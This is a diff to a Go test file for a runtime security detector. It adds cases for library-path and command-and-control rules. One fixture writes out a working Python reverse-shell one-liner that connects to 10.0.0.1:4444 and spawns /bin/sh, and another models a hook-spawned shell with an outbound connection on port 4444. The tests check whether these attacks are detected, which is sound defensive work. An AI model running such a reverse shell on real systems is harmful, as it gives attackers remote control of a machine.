@@ -402,6 +402,9 @@ func TestRules(t *testing.T) {
 		{"ldconfig rewrites the cache", "EXE-001", func() []*event.Event {
 			return evs(openEv(proc(90, "/sbin/ldconfig"), infer("x"), "/etc/ld.so.cache", "", wr, 3))
 		}, false, 0},
+		{"rustup library path in home", "EXE-001", func() []*event.Event {
+			return evs(execEv(proc(90, "/root/.cargo/bin/rustc").env("LD_LIBRARY_PATH", "/root/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/lib"), infer("b2")))
+		}, false, 0},
 		{"CUDA library path", "EXE-001", func() []*event.Event {
 			return evs(execEv(proc(90, "/usr/bin/python3").env("LD_LIBRARY_PATH", "/usr/local/nvidia/lib64:/usr/local/cuda/lib64"), infer("x")))
 		}, false, 0},
@@ -581,6 +584,16 @@ func TestRules(t *testing.T) {
 			return evs(connEv(proc(170, "/usr/bin/python3"), c, "10.200.1.1", 6379, event.ClassNode),
 				execEv(proc(171, "/bin/sh", "sh", "-c", "nvidia-smi -L").anc(an(170, "/usr/bin/python3")), c))
 		}, false, 0},
+		{"A6 shell seen before the connect (events out of order)", "C2-001", func() []*event.Event {
+			return evs(execEv(proc(501, "/usr/bin/dash", "/bin/sh", "-c", "id").ns(hookNS).anc(an(500, "/tmp/h/bin/nvidia-ctk"), runcA), infer("a6")),
+				connEv(nvctk(), infer("a6"), "10.200.2.2", 4444, event.ClassExternal))
+		}, true, event.SevCritical},
+		{"A5 script with socket.socket and a /bin path", "C2-001", func() []*event.Event {
+			return evs(execEv(proc(163, "/bin/sh", "sh", "-c", "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX)\"; $0/bin/crictl ps; mkdir -p x 2>&1"), infer("a5")))
+		}, false, 0},
+		{"python reverse shell", "C2-001", func() []*event.Event {
+			return evs(execEv(proc(163, "/usr/bin/python3", "python3", "-c", "import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")"), side("x")))
+		}, true, event.SevHigh},
 		{"shell long after a connect", "C2-001", func() []*event.Event {
 			c := infer("x")
 			k := connEv(proc(170, "/usr/bin/python3"), c, "10.200.1.1", 8080, event.ClassNode)
